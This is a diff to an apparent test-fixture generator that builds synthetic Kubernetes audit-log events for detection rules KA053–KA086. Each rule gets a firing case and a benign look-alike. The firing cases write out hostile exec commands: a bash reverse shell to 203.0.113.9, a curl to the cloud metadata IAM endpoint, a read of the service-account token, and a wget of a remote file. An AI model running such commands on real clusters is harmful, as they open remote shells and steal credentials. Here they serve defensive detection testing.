@@ -22,7 +22,11 @@ The cases, each with what the rule must do (tests/detect_cases.tsv, tests/detect
   xff-claimed-public.log        the reverse: a public address claimed, 10.1.2.3 connected: no KA050
   exec-credential-command.log   oscar's exec running `mysql -u root -phunter2 -e "select 1"`: KA001 shows the
                                 command with the password hidden
+
+Content cases (issue 21's new rules), each a firing case and a benign look-alike that must stay quiet, named
+RULE-what.log; CONTENT below lists them with the real request each starts from and its edits.
 """
+import copy
 import gzip
 import json
 import os
@@ -134,8 +138,165 @@ def pipeline_from(ips):
     return evs
 
 
+def edit(prefix, fn=None, final=None, drop_started=False):
+    """The events of real request `prefix`, each passed to fn(event) (all stages), the final one to final()."""
+    evs = [e for e in events_of(prefix) if not (drop_started and e["stage"] == "ResponseStarted")]
+    for e in evs:
+        if fn:
+            fn(e)
+    if final:
+        final(evs[-1])
+    return evs
+
+
+def exec_words(words):
+    """oscar's exec (eeaeca01) running `words`: each a `command` parameter of the URI."""
+    query = "&".join("command=" + w.replace("%", "%25").replace("&", "%26").replace(" ", "+") for w in words)
+    return edit("eeaeca01", lambda e: e.update(requestURI=e["requestURI"].replace("command=id", query)))
+
+
+def set_body(e, key, fn):
+    if key in e and e[key] is not None:
+        fn(e[key])
+
+
+def retarget(e, resource, group, version, ns, name=None, collection=False):
+    """objectRef and requestURI of a request made about another resource (nothing else changes)."""
+    ref = {"resource": resource, "namespace": ns, "apiGroup": group, "apiVersion": version}
+    if not group:
+        del ref["apiGroup"]
+    if name:
+        ref["name"] = name
+    e["objectRef"] = ref
+    base = "/api/v1" if not group else "/apis/%s/%s" % (group, version)
+    path = "%s/namespaces/%s/%s" % (base, ns, resource)
+    if name and not collection:
+        path += "/" + name
+    q = e["requestURI"].split("?", 1)
+    e["requestURI"] = path + ("?" + q[1] if len(q) > 1 else "")
+
+
+def as_workload(kind, resource, group):
+    """dana's Deployment create (56236791) as another workload kind."""
+    def fn(e):
+        retarget(e, resource, group, "v1", "locked-down", "legacy-agent", collection=True)
+        for k in ("requestObject", "responseObject"):
+            if e.get(k):
+                e[k]["kind"] = kind
+                e[k]["apiVersion"] = "%s/v1" % group
+    return fn
+
+
+def pod_spec(fn):
+    return lambda e: [fn(e[k]) for k in ("requestObject", "responseObject") if e.get(k)]
+
+
+def with_user(name, groups):
+    return lambda e: as_user(e, name, groups)
+
+
+SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]
+
+
+def many(prefix, n, each):
+    """n copies of real request `prefix`, copy i edited by each(i, event) and given its own auditID."""
+    out = []
+    for i in range(n):
+        evs = copy.deepcopy(events_of(prefix))
+        for e in evs:
+            each(i, e)
+            e["auditID"] = e["auditID"][:-6] + "%02x" % i + e["auditID"][-4:]
+        out.extend(evs)
+    return out
+
+
+def secret_get_named(i, e):
+    name = "s%d" % i
+    e["requestURI"] = e["requestURI"].replace("payment-gateway-token", name)
+    e["objectRef"]["name"] = name
+
+
+def list_kind(kinds):
+    def each(i, e):
+        retarget(e, kinds[i], "", "v1", None or "billing", collection=True)
+        e["objectRef"].pop("name", None)
+    return each
+
+
+def role_rules(rules):
+    return lambda e: [e[k].update(rules=rules) for k in ("requestObject", "responseObject") if e.get(k)]
+
+
+CONTENT = [
+    ("KA053-reverse-shell.log", lambda: exec_words(["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])),
+    ("KA053-shell-script.log", lambda: exec_words(["sh", "-c", "echo done > /tmp/status"])),
+    ("KA054-metadata.log", lambda: exec_words(["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"])),
+    ("KA054-localhost.log", lambda: exec_words(["curl", "-s", "http://localhost:8080/healthz"])),
+    ("KA055-token-read.log", lambda: exec_words(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])),
+    ("KA055-hostname-read.log", lambda: exec_words(["cat", "/etc/hostname"])),
+    ("KA056-wget.log", lambda: exec_words(["wget", "-q", "-O", "/tmp/x", "https://203.0.113.9/x"])),
+    ("KA056-ls.log", lambda: exec_words(["ls", "-la", "/tmp"])),
+    ("KA057-tar-out.log", lambda: exec_words(["tar", "cf", "-", "/etc/hostname"])),
+    ("KA057-tar-version.log", lambda: exec_words(["tar", "--version"])),
+    ("KA058-kube-hunter.log", lambda: edit("8131283d", lambda e: e.update(userAgent="kube-hunter/0.6.8"))),
+    ("KA058-kubectl.log", lambda: edit("8131283d")),
+    ("KA059-run-as-root.log", lambda: edit("87a0d2a8", pod_spec(lambda o: o["spec"].setdefault("securityContext", {}).update(runAsUser=0)))),
+    ("KA059-compliant.log", lambda: edit("87a0d2a8")),
+    ("KA060-hostpath-varlog.log", lambda: edit("391abf79", pod_spec(lambda o: o["spec"].setdefault("volumes", []).append({"name": "logs", "hostPath": {"path": "/var/log", "type": ""}})))),
+    ("KA060-no-hostpath.log", lambda: edit("391abf79")),
+    ("KA061-pod-in-default.log", lambda: edit("391abf79", lambda e: (retarget(e, "pods", "", "v1", "default", "cashier-0", collection=True), set_body(e, "requestObject", lambda o: o["metadata"].update(namespace="default"))))),
+    ("KA061-pod-in-billing.log", lambda: edit("391abf79")),
+    ("KA062-cronjob-by-dana.log", lambda: edit("56236791", as_workload("CronJob", "cronjobs", "batch"))),
+    ("KA062-job-by-controller.log", lambda: edit("56236791", lambda e: (as_workload("Job", "jobs", "batch")(e), as_user(e, "system:serviceaccount:kube-system:cronjob-controller", SA_GROUPS)))),
+    ("KA063-daemonset.log", lambda: edit("56236791", as_workload("DaemonSet", "daemonsets", "apps"))),
+    ("KA063-deployment.log", lambda: edit("56236791")),
+    ("KA064-sidecar-patch.log", lambda: edit("9251f8e8", lambda e: set_body(e, "requestObject", lambda o: o["spec"]["template"].update(spec={"containers": [{"name": "helper", "image": "registry.example/helper:1"}]})))),
+    ("KA064-annotation-patch.log", lambda: edit("9251f8e8")),
+    ("KA065-mirror-pod.log", lambda: edit("391abf79", lambda e: (as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]), set_body(e, "requestObject", lambda o: o["metadata"].setdefault("annotations", {}).update({"kubernetes.io/config.mirror": "4f1c7b"}))))),
+    ("KA065-pod-by-node.log", lambda: edit("391abf79", lambda e: as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]))),
+    ("KA066-edit-binding.log", lambda: edit("2b7c1395")),
+    ("KA066-view-binding.log", lambda: edit("433de5d2")),
+    ("KA067-sa-edit-binding.log", lambda: edit("5a0c5282")),
+    ("KA067-sa-role-binding.log", lambda: edit("3f41d660")),
+    ("KA068-role-writes-bindings.log", lambda: edit("6a794ba2", role_rules([{"verbs": ["create", "patch"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["rolebindings"]}]))),
+    ("KA068-role-reads-secrets.log", lambda: edit("6a794ba2")),
+    ("KA070-sa-lists-secrets.log", lambda: edit("5b97091d")),
+    ("KA070-person-lists-secrets.log", lambda: edit("c575fcb3")),
+    ("KA071-secret-get-denied.log", lambda: edit("8131283d")),
+    ("KA071-secret-get-allowed.log", lambda: edit("8de1a553")),
+    ("KA072-list-kube-system.log", lambda: edit("c575fcb3", lambda e: retarget(e, "secrets", "", "v1", "kube-system", collection=True))),
+    ("KA072-list-billing.log", lambda: edit("c575fcb3")),
+    ("KA073-five-names.log", lambda: many("8de1a553", 5, secret_get_named)),
+    ("KA073-four-names.log", lambda: many("8de1a553", 4, secret_get_named)),
+    ("KA074-python-client.log", lambda: edit("8de1a553", lambda e: e.update(userAgent="python-requests/2.31.0"))),
+    ("KA074-kubectl-client.log", lambda: edit("8de1a553")),
+    ("KA075-secret-created.log", lambda: edit("b4903976")),
+    ("KA075-secret-read.log", lambda: edit("8de1a553")),
+    ("KA076-netpol-deleted.log", lambda: edit("ca8ae085", lambda e: retarget(e, "networkpolicies", "networking.k8s.io", "v1", "shop", "default-deny"))),
+    ("KA076-configmap-deleted.log", lambda: edit("ca8ae085")),
+    ("KA077-ingress-plain.log", lambda: edit("a402388e", lambda e: (retarget(e, "ingresses", "networking.k8s.io", "v1", "shop", "web", collection=True), [e.update({k: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"rules": [{"host": "shop.example", "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "web", "port": {"number": 80}}}}]}}]}}}) for k in ("requestObject", "responseObject") if e.get(k)]))),
+    ("KA077-ingress-tls.log", lambda: edit("a402388e", lambda e: (retarget(e, "ingresses", "networking.k8s.io", "v1", "shop", "web", collection=True), [e.update({k: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"tls": [{"hosts": ["shop.example"], "secretName": "web-tls"}], "rules": [{"host": "shop.example"}]}}}) for k in ("requestObject", "responseObject") if e.get(k)]))),
+    ("KA081-node-by-admin.log", lambda: edit("1d3bbefc")),
+    ("KA081-node-by-kubelet.log", lambda: edit("1d3bbefc", lambda e: as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]))),
+    ("KA082-kubernetes-admin.log", lambda: edit("8de1a553", lambda e: as_user(e, "kubernetes-admin", ["system:masters", "system:authenticated"]))),
+    ("KA082-named-admin.log", lambda: edit("8de1a553")),
+    ("KA083-pod-deleted.log", lambda: edit("456fa536")),
+    ("KA083-configmap-deleted.log", lambda: edit("ca8ae085")),
+    ("KA084-sa-created.log", lambda: edit("2ce61cff")),
+    ("KA084-sa-in-kube-system.log", lambda: edit("2ce61cff", lambda e: retarget(e, "serviceaccounts", "", "v1", "kube-system", "pipeline", collection=True))),
+    ("KA085-create-denied.log", lambda: edit("ec94f4f2")),
+    ("KA085-access-review.log", lambda: edit("ab019f88")),
+    ("KA086-four-kinds.log", lambda: many("c575fcb3", 4, list_kind(["secrets", "configmaps", "pods", "serviceaccounts"]))),
+    ("KA086-three-kinds.log", lambda: many("c575fcb3", 3, list_kind(["secrets", "configmaps", "pods"]))),
+    ("KA017-wildcard-by-patch.log", lambda: edit("6a794ba2", lambda e: (e.update(verb="patch"), set_body(e, "requestObject", lambda o: o.update(rules=[{"verbs": ["*"], "apiGroups": [""], "resources": ["secrets"]}])), set_body(e, "responseObject", lambda o: o.update(rules=[{"verbs": ["*"], "apiGroups": [""], "resources": ["secrets"]}]))))),
+    ("KA018-pods-star.log", lambda: edit("6a794ba2", role_rules([{"verbs": ["get"], "apiGroups": [""], "resources": ["pods/*"]}]))),
+]
+
+
 def main():
     os.makedirs(OUT, exist_ok=True)
+    for i, (name, build) in enumerate(CONTENT):
+        write(name, 0xB000 + i, build())
     write("attempt-exec-denied.log", 0xA001, exec_denied())
     write("attempt-exec-failed.log", 0xA002, exec_failed())
     write("attempt-binding-invalid.log", 0xA003, binding_invalid())
